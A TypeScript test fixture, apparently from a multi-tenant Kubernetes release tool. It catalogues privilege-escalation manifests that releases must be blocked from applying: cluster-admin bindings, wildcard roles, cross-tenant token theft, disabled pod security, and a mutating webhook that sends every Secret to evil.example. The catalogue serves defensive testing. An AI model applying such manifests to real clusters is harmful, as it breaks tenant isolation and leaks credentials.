import { OTHER, OWN, RELEASES, type Attack } from './attack';
import { held, object } from './held';

const RBAC = 'rbac.authorization.k8s.io';
const role = (kind: string, name: string) => ({ apiGroup: RBAC, kind, name });
const account = (name: string, namespace: string) => [{ kind: 'ServiceAccount', name, namespace }];
const everything = [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }];
const everybody = [{ apiGroup: RBAC, kind: 'Group', name: 'system:authenticated' }];

const access: readonly Attack[] = [
  held(
    'a ClusterRoleBinding to cluster-admin',
    'the whole cluster',
    object(`${RBAC}/v1`, 'ClusterRoleBinding', {
      roleRef: role('ClusterRole', 'cluster-admin'),
      subjects: account('default', OWN),
    }),
  ),
  held('a ClusterRole', 'rights to bind later', object(`${RBAC}/v1`, 'ClusterRole', { rules: everything })),
  held(
    'the role of all releases, with more in it',
    'every tenant',
    object(`${RBAC}/v1`, 'ClusterRole', { rules: everything }, { name: 'tenant-releaser' }),
  ),
  held(
    'a Role over everything',
    'guard rails of the namespace',
    object(`${RBAC}/v1`, 'Role', { rules: everything }),
  ),
  held(
    'a RoleBinding of everybody to the role of releases',
    'the Secrets of the namespace, for every pod of the cluster',
    object(`${RBAC}/v1`, 'RoleBinding', {
      roleRef: role('ClusterRole', 'tenant-releaser'),
      subjects: everybody,
    }),
  ),
  held(
    "a RoleBinding in another tenant's namespace",
    "the other tenant's Secrets",
    object(
      `${RBAC}/v1`,
      'RoleBinding',
      { roleRef: role('ClusterRole', 'tenant-releaser'), subjects: account('default', OWN) },
      { namespace: OTHER },
    ),
  ),
  held(
    "a token of another tenant's account",
    "the other tenant's rights",
    object(
      'v1',
      'Secret',
      { type: 'kubernetes.io/service-account-token' },
      { namespace: RELEASES, annotations: { 'kubernetes.io/service-account.name': OTHER } },
    ),
  ),
  held(
    'an account among those of releases',
    'an account that engines use',
    object('v1', 'ServiceAccount', {}, { namespace: RELEASES, name: 'web' }),
  ),
];

const guardRails: readonly Attack[] = [
  held(
    'its own namespace without Pod Security and policies',
    'privileged pods',
    object(
      'v1',
      'Namespace',
      {},
      {
        name: OWN,
        labels: {
          'pod-security.kubernetes.io/enforce': 'privileged',
          'ringfleet.io/tenant': OWN,
          'ringfleet.io/admission': 'off',
        },
      },
    ),
  ),
  held('a namespace', 'a namespace without guard rails', object('v1', 'Namespace', {}, { name: 'loot' })),
  held(
    'a NetworkPolicy that allows all',
    'traffic from and to everybody',
    object('networking.k8s.io/v1', 'NetworkPolicy', {
      spec: { podSelector: {}, policyTypes: ['Egress', 'Ingress'], egress: [{}], ingress: [{}] },
    }),
  ),
  held('a ResourceQuota', 'capacity', object('v1', 'ResourceQuota', { spec: { hard: { pods: '1000' } } })),
  held(
    'the ResourceQuota of the guard rails',
    'capacity, and node ports',
    object('v1', 'ResourceQuota', { spec: { hard: {} } }, { name: 'quota' }),
  ),
  held(
    'a LimitRange',
    'containers of any size',
    object('v1', 'LimitRange', { spec: { limits: [{ type: 'Container', max: { cpu: '100' } }] } }),
  ),
  held(
    'an admission policy without validations that matter',
    'the cluster',
    object('admissionregistration.k8s.io/v1', 'ValidatingAdmissionPolicyBinding', {
      spec: { policyName: 'tenant-ingresses', validationActions: ['Audit'] },
    }),
  ),
  held(
    'a webhook that sees every Secret',
    'every Secret that is written',
    object('admissionregistration.k8s.io/v1', 'MutatingWebhookConfiguration', {
      webhooks: [
        {
          name: 'web.evil.example',
          clientConfig: { url: 'https://evil.example/' },
          rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['*'], resources: ['secrets'] }],
          sideEffects: 'None',
          admissionReviewVersions: ['v1'],
        },
      ],
    }),
  ),
  held(
    'a PriorityClass',
    "other tenants' pods pushed out",
    object('scheduling.k8s.io/v1', 'PriorityClass', { value: 1_000_000_000 }),
  ),
  held(
    'a RuntimeClass',
    'a runtime without a sandbox',
    object('node.k8s.io/v1', 'RuntimeClass', { handler: 'host' }),
  ),
];

/** Access and guard rails, which no release has a right to. */
export const RIGHTS: readonly Attack[] = [...access, ...guardRails];
